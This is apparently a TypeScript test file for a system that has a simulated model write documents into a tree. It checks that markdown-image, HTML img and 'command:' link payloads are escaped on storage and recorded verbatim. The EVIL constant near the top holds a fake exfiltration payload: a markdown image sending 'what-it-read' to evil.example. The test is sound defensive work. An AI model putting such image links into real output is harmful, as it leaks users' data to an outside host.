import assert from 'node:assert/strict';
import { walk } from '../../../../src/core/tree/tree.ts';
import { simulate } from '../../../support/searches/simulated-search.ts';

const tree = { fanout: (_path: string, depth: number) => [2, 2][depth] ?? 0, documentWords: 5 };
const EVIL =
  'It is so.\n\n![](https://evil.example/?d=what-it-read)\n\n<img src="https://evil.example/"> [x](command:y)';

describe('what a model puts into a document', () => {
  it('is text where it would be loaded or run, and its exact words are in the conversation', async () => {
    const simulation = await simulate({
      tree,
      model: { instead: ({ purpose }) => (purpose === 'document' ? EVIL : undefined) },
      search: { limits: { size: 'all' } },
    });
    await simulation.run();
    const { store, search } = simulation;
    const nodes = [...walk(search.tree.root)].filter(({ parent }) => parent);
    assert.ok(nodes.length > 2);
    const edited: string[] = [];
    for (const { slug, parent, sessionId } of nodes) {
      const path = parent?.parent ? `${parent.slug}/${slug}` : slug;
      const document = (await store.readDocument(path)) ?? '';
      assert.ok(document.includes('!\\[](https://evil.example/?d=what-it-read)'), document);
      assert.ok(document.includes('&lt;img src="https://evil.example/"> \\[x](command:y)'), document);
      const conversation = await store.readConversation(sessionId ?? '');
      const answers = conversation?.turns.filter((turn) => turn.role === 'assistant' && turn.purpose === 'document');
      assert.equal(answers?.[0]?.text, EVIL);
      edited.push(
        ...(conversation?.turns ?? []).map(({ purpose }) => purpose).filter((purpose) => purpose === 'edited'),
      );
    }
    assert.deepEqual(edited, [], 'it is no edit of a person');
  });
});
